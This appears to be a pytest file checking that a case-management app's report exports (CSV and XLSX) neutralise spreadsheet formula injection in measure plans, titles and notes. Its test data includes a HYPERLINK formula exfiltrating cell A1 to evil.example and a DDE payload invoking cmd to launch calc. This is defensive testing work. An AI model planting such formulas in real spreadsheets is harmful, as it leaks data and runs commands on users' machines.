"""Formula injection (issue 17, item 1): a measure's plan, title or note that a spreadsheet would run as a
formula is text in every export: the committee report's CSV (a leading ``'``) and XLSX (string cells, no
formula anywhere in the file), and the log review's CSV. Figures stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from caseflow.db import today_local
from caseflow.extensions import db
from caseflow.kinds import ItemKind
from caseflow.measures.services import write_note
from caseflow.months import Month
from caseflow.reports.rollup import rollup_months
from caseflow.reports.services import ExportFormat, export_report
from caseflow.spreadsheet_cells import csv_text

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")'
#: Each start a spreadsheet reads as a formula, as a measure's plan, title and note.
#: (A tab or a carriage return first is stripped when stored; ``csv_text`` is shown to handle them below.)
DANGEROUS = [("+Plan", HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"), ("-2+3", "@Rubrik", "=1+1"),
             ("=Plan", "+46 70", "-Anteckning")]
MONTH = Month.of(today_local())


@pytest.fixture
def dangerous_measures(make_item, leader):
    for number, (plan, title, note) in enumerate(DANGEROUS, start=1):
        measure = make_item(ItemKind.MEASURE, plan=plan, title=title)
        write_note(leader, measure.id, MONTH, note)
    rollup_months(MONTH, MONTH)
    db.session.commit()


def test_the_report_csv_writes_every_dangerous_text_with_a_leading_quote(dangerous_measures):
    content, _name = export_report(MONTH, ExportFormat.CSV)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    measure_rows = {row[0]: row[1:] for row in rows if row and row[0].startswith("Åtgärd ")}
    assert measure_rows == {f"Åtgärd {number}": ["'" + plan, "'" + title, "Planerad", "'" + note]
                            for number, (plan, title, note) in enumerate(DANGEROUS, start=1)}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row
                       if cell not in ("--",)), row  # ``--``: no figure, a mark of our own


def test_the_report_xlsx_holds_dangerous_texts_as_strings_and_no_formula(dangerous_measures):
    content, _name = export_report(MONTH, ExportFormat.XLSX)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    for text in (text for triple in DANGEROUS for text in triple):
        assert text in cells, text
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
    planned = next(row for row in sheet.iter_rows() if row[0].value == "Planerade åtgärder")
    assert (planned[1].value, planned[1].data_type) == (3, "n")  # a figure is still a number


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Plan 2026", "Plan 2026"), ("", ""), (None, ""), (-5, "-5"), (3713, "3713"),
])
def test_a_csv_text_cell_is_prefixed_only_when_it_would_run_and_numbers_are_untouched(value, written):
    assert csv_text(value) == written
